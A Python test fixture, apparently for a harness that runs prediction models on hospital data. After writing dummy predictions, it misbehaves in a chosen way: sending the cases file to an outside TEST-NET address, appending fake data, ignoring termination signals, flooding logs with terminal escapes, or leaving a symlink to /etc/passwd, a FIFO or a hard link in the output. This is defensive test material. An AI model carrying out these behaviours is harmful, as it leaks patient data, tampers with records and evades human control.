"""A model that misbehaves in the way its one argument names.

It does its work first, so that only the misdeed is wrong.
"""

from __future__ import annotations

import csv
import os
import signal
import socket
import sys
import time
from pathlib import Path

DATA = Path("/input/data")
PREDICTIONS = Path("/output/predictions")
RESULT = PREDICTIONS / "predictions.csv"


def predict() -> None:
    """Write a prediction for every case."""
    with (DATA / "cases.csv").open(newline="", encoding="utf-8") as file:
        cases = [row["case"] for row in csv.DictReader(file)]
    RESULT.write_text("case,probability\n" + "".join(f"{case},0.5\n" for case in cases), encoding="utf-8")


def network() -> None:
    """Send the data to an outside address (TEST-NET-3, which nobody owns)."""
    with socket.create_connection(("203.0.113.1", 443), timeout=5) as connection:
        connection.sendall((DATA / "cases.csv").read_bytes())


def write_data() -> None:
    """Change the hospital's data."""
    with (DATA / "cases.csv").open("a", encoding="utf-8") as file:
        file.write("X0001,0,0,0,0,0,0,0,0,0,0\n")


def never_ends() -> None:
    """Ignore the polite signal and wait for ever."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(3600)


def flood_log() -> None:
    """Write to the log without end, with terminal escapes in it."""
    line = (b"\x1b[2J\x1b[31m" + b"flood " * 1300 + b"\n") * 8
    while True:
        os.write(1, line)


def symlink() -> None:
    """Leave a link to a file of whoever collects the output."""
    RESULT.unlink()
    RESULT.symlink_to("/etc/passwd")


def fifo() -> None:
    """Leave a pipe, on which a careless reader waits for ever."""
    RESULT.unlink()
    os.mkfifo(RESULT)


def hard_link() -> None:
    """Leave one file under two names, so that it can change after it was looked at."""
    os.link(RESULT, PREDICTIONS / "again.csv")


MODES = {
    "network": network,
    "write-data": write_data,
    "never-ends": never_ends,
    "flood-log": flood_log,
    "symlink": symlink,
    "fifo": fifo,
    "hard-link": hard_link,
}

if __name__ == "__main__":
    predict()
    MODES[sys.argv[1]]()
